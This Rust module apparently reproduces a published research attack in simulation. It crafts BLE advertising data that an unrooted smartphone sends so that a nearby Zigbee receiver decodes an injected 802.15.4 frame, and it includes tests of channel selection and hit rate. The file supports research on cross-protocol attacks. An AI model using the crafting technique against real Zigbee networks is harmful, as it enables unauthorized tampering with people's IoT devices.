//! Scenario A (paper §VI-B): injecting 802.15.4 frames from an unrooted
//! smartphone.
//!
//! With nothing but the public extended-advertising API, the attacker:
//!
//! 1. encodes the target 802.15.4 frame as MSK bits,
//! 2. prepends 16 padding bytes (the headers the controller will put ahead
//!    of the manufacturer data), de-whitens the whole thing for the BLE
//!    channel that shares the target Zigbee channel's frequency, and crops
//!    the padding,
//! 3. hands the result to the advertising API and enables extended
//!    advertising with the smallest interval.
//!
//! Whenever Channel Selection Algorithm #2 lands the `AUX_ADV_IND` on the
//! hoped-for channel, the controller's whitening restores the MSK bits and
//! the Zigbee receiver decodes a pristine frame.

use wazabee_ble::adv::AUX_ADV_MANUFACTURER_PADDING;
use wazabee_ble::whitening::Whitener;
use wazabee_ble::BleChannel;
use wazabee_chips::{Smartphone, MAX_MANUFACTURER_DATA};
use wazabee_dot154::modem::ReceivedPpdu;
use wazabee_dot154::{Dot154Channel, Dot154Modem, Ppdu};
use wazabee_dsp::bits::bits_to_bytes_lsb;
use wazabee_radio::{Link, RfFrame};

use crate::channels::ble_channel_for_zigbee;
use crate::error::WazaBeeError;
use crate::tx::encode_ppdu_msk;

/// Builds the manufacturer-data bytes that make an `AUX_ADV_IND` on
/// `ble_channel` carry `ppdu` as a decodable 802.15.4 frame.
///
/// # Errors
///
/// [`WazaBeeError::FrameTooLong`] when the encoded frame exceeds the
/// advertising payload capacity.
pub fn craft_manufacturer_data(
    ppdu: &Ppdu,
    ble_channel: BleChannel,
) -> Result<Vec<u8>, WazaBeeError> {
    let msk_bytes = bits_to_bytes_lsb(&encode_ppdu_msk(ppdu));
    if msk_bytes.len() > MAX_MANUFACTURER_DATA {
        return Err(WazaBeeError::FrameTooLong {
            len: msk_bytes.len(),
            max: MAX_MANUFACTURER_DATA,
        });
    }
    // Paper §VI-B: pad with the bytes that will precede the data on the PDU,
    // de-whiten for the target channel, crop the padding.
    let mut padded = vec![0u8; AUX_ADV_MANUFACTURER_PADDING];
    padded.extend_from_slice(&msk_bytes);
    let dewhitened = Whitener::new(ble_channel).whiten_bytes(&padded);
    Ok(dewhitened[AUX_ADV_MANUFACTURER_PADDING..].to_vec())
}

/// Outcome of one advertising event during the injection campaign.
#[derive(Debug, Clone, PartialEq)]
pub enum EventOutcome {
    /// CSA#2 picked a channel that does not overlap the target.
    WrongChannel(BleChannel),
    /// The aux packet went out on the target frequency and the reference
    /// 802.15.4 receiver decoded the embedded frame.
    Injected(ReceivedPpdu),
    /// On the target frequency, but the receiver failed to decode (channel
    /// impairments).
    NotDecoded,
}

/// The Scenario A campaign driver.
///
/// # Examples
///
/// ```
/// use wazabee::scenario_a::ScenarioA;
/// use wazabee_ble::adv::BleAddress;
/// use wazabee_chips::Smartphone;
/// use wazabee_dot154::{fcs::append_fcs, Dot154Channel, Ppdu};
/// use wazabee_radio::{Link, LinkConfig};
///
/// let phone = Smartphone::new(BleAddress::new([2, 0, 0, 0, 0, 1]), 8);
/// let target = Dot154Channel::new(14).unwrap();
/// let mut scenario = ScenarioA::new(phone, target, 8).unwrap();
/// scenario.arm(&Ppdu::new(append_fcs(&[0x42])).unwrap()).unwrap();
/// let mut link = Link::new(LinkConfig::ideal(), 7);
/// let outcomes = scenario.run_events(150, &mut link);
/// assert!(outcomes.iter().any(|o| matches!(o, wazabee::scenario_a::EventOutcome::Injected(_))));
/// ```
#[derive(Debug)]
pub struct ScenarioA {
    phone: Smartphone,
    target_zigbee: Dot154Channel,
    target_ble: BleChannel,
    receiver: Dot154Modem,
}

impl ScenarioA {
    /// Prepares the campaign against a Zigbee channel.
    ///
    /// # Errors
    ///
    /// [`WazaBeeError::ChannelUnavailable`] when the Zigbee channel shares no
    /// frequency with a BLE data channel (paper Table II: only even Zigbee
    /// channels qualify).
    pub fn new(
        phone: Smartphone,
        target: Dot154Channel,
        samples_per_chip: usize,
    ) -> Result<Self, WazaBeeError> {
        let target_ble =
            ble_channel_for_zigbee(target).ok_or(WazaBeeError::ChannelUnavailable {
                requested_mhz: target.center_mhz(),
            })?;
        if !target_ble.is_data() {
            // Advertising channel 39 is never selected by CSA#2 for aux
            // packets, so Zigbee 26 is unreachable from the high-level API.
            return Err(WazaBeeError::ChannelUnavailable {
                requested_mhz: target.center_mhz(),
            });
        }
        Ok(ScenarioA {
            phone,
            target_zigbee: target,
            target_ble,
            receiver: Dot154Modem::new(samples_per_chip),
        })
    }

    /// The Zigbee channel under attack.
    pub fn target(&self) -> Dot154Channel {
        self.target_zigbee
    }

    /// The BLE channel whose whitening the crafted data pre-inverts.
    pub fn target_ble_channel(&self) -> BleChannel {
        self.target_ble
    }

    /// Crafts the advertising data for `ppdu` and hands it to the phone's
    /// public API.
    ///
    /// # Errors
    ///
    /// [`WazaBeeError::FrameTooLong`] when the frame cannot fit.
    pub fn arm(&mut self, ppdu: &Ppdu) -> Result<(), WazaBeeError> {
        let data = craft_manufacturer_data(ppdu, self.target_ble)?;
        let len = data.len();
        self.phone
            .set_manufacturer_data(data)
            .map_err(|rejected| WazaBeeError::FrameTooLong {
                len: rejected.len().max(len),
                max: MAX_MANUFACTURER_DATA,
            })
    }

    /// Runs one advertising event and reports what the Zigbee receiver saw.
    pub fn run_event(&mut self, link: &mut Link) -> EventOutcome {
        let _s = wazabee_telemetry::scope!("scenario_a.event");
        wazabee_telemetry::counter!("scenario_a.events").inc();
        let Some(event) = self.phone.advertising_event() else {
            return EventOutcome::NotDecoded;
        };
        let aux_mhz = event.aux_channel.center_mhz();
        let target_mhz = self.target_zigbee.center_mhz();
        if aux_mhz != target_mhz {
            wazabee_telemetry::counter!("scenario_a.wrong_channel").inc();
            return EventOutcome::WrongChannel(event.aux_channel);
        }
        // On the target frequency: this event is an injection attempt.
        wazabee_telemetry::counter!("scenario_a.frames_tx").inc();
        // The phone's LE 2M modem and the 802.15.4 receiver share the same
        // 2 Msym/s × samples_per_chip grid, so one sample rate labels both.
        let frame = RfFrame::new(aux_mhz, event.aux_samples, self.receiver.sample_rate());
        let rx = link.deliver(&frame, target_mhz);
        match self.receiver.receive(&rx) {
            Some(ppdu) if ppdu.fcs_ok() => {
                wazabee_telemetry::counter!("scenario_a.frames_ok").inc();
                EventOutcome::Injected(ppdu)
            }
            _ => {
                wazabee_telemetry::counter!("scenario_a.not_decoded").inc();
                EventOutcome::NotDecoded
            }
        }
    }

    /// Runs `n` advertising events, collecting each outcome.
    pub fn run_events(&mut self, n: usize, link: &mut Link) -> Vec<EventOutcome> {
        (0..n).map(|_| self.run_event(link)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use wazabee_ble::adv::BleAddress;
    use wazabee_dot154::fcs::append_fcs;
    use wazabee_dot154::MacFrame;
    use wazabee_radio::LinkConfig;

    fn phone(seed: u8) -> Smartphone {
        Smartphone::new(BleAddress::new([seed, 2, 3, 4, 5, 6]), 8)
    }

    fn ch(n: u8) -> Dot154Channel {
        Dot154Channel::new(n).unwrap()
    }

    #[test]
    fn odd_zigbee_channels_rejected() {
        let err = ScenarioA::new(phone(1), ch(15), 8).unwrap_err();
        assert!(matches!(err, WazaBeeError::ChannelUnavailable { .. }));
    }

    #[test]
    fn zigbee_26_needs_more_than_the_high_level_api() {
        // Its BLE twin is advertising channel 39, which CSA#2 never picks.
        let err = ScenarioA::new(phone(1), ch(26), 8).unwrap_err();
        assert!(matches!(err, WazaBeeError::ChannelUnavailable { .. }));
    }

    #[test]
    fn crafted_data_round_trips_through_whitening() {
        // whiten(craft(x)) must equal the MSK image of x at the right offset.
        let ppdu = Ppdu::new(append_fcs(&[1, 2, 3])).unwrap();
        let ble8 = BleChannel::new(8).unwrap();
        let data = craft_manufacturer_data(&ppdu, ble8).unwrap();
        let mut padded = vec![0u8; AUX_ADV_MANUFACTURER_PADDING];
        padded.extend_from_slice(&data);
        let rewhitened = Whitener::new(ble8).whiten_bytes(&padded);
        let expect = bits_to_bytes_lsb(&encode_ppdu_msk(&ppdu));
        assert_eq!(
            &rewhitened[AUX_ADV_MANUFACTURER_PADDING..],
            expect.as_slice()
        );
    }

    #[test]
    fn oversized_frame_rejected() {
        let ppdu = Ppdu::new(append_fcs(&[0; 70])).unwrap();
        let err = craft_manufacturer_data(&ppdu, BleChannel::new(8).unwrap()).unwrap_err();
        assert!(matches!(err, WazaBeeError::FrameTooLong { .. }));
    }

    #[test]
    fn injection_succeeds_when_csa2_cooperates() {
        let frame = MacFrame::data(0x1234, 0x0063, 0x0042, 1, vec![0xAB, 0xCD]);
        let ppdu = Ppdu::new(frame.to_psdu()).unwrap();
        let mut scenario = ScenarioA::new(phone(2), ch(14), 8).unwrap();
        scenario.arm(&ppdu).unwrap();
        let mut link = Link::new(LinkConfig::ideal(), 3);
        let outcomes = scenario.run_events(120, &mut link);
        let injected: Vec<_> = outcomes
            .iter()
            .filter_map(|o| match o {
                EventOutcome::Injected(p) => Some(p),
                _ => None,
            })
            .collect();
        assert!(!injected.is_empty(), "no event hit the target channel");
        for p in &injected {
            assert_eq!(p.psdu, ppdu.psdu());
            assert_eq!(MacFrame::from_psdu(&p.psdu).as_ref(), Some(&frame));
        }
        // Never a decode failure on an ideal link: on-target means injected.
        assert!(!outcomes.contains(&EventOutcome::NotDecoded));
    }

    #[test]
    fn hit_rate_is_roughly_one_in_37() {
        let ppdu = Ppdu::new(append_fcs(&[7])).unwrap();
        let mut scenario = ScenarioA::new(phone(3), ch(20), 8).unwrap();
        scenario.arm(&ppdu).unwrap();
        let mut link = Link::new(LinkConfig::ideal(), 4);
        let outcomes = scenario.run_events(370, &mut link);
        let hits = outcomes
            .iter()
            .filter(|o| matches!(o, EventOutcome::Injected(_)))
            .count();
        // Expectation is 10; allow a generous band.
        assert!((3..=25).contains(&hits), "{hits} hits out of 370 events");
    }

    #[test]
    fn unarmed_phone_never_injects() {
        let mut scenario = ScenarioA::new(phone(4), ch(14), 8).unwrap();
        let mut link = Link::new(LinkConfig::ideal(), 5);
        let outcomes = scenario.run_events(5, &mut link);
        assert!(outcomes.iter().all(|o| *o == EventOutcome::NotDecoded));
    }
}
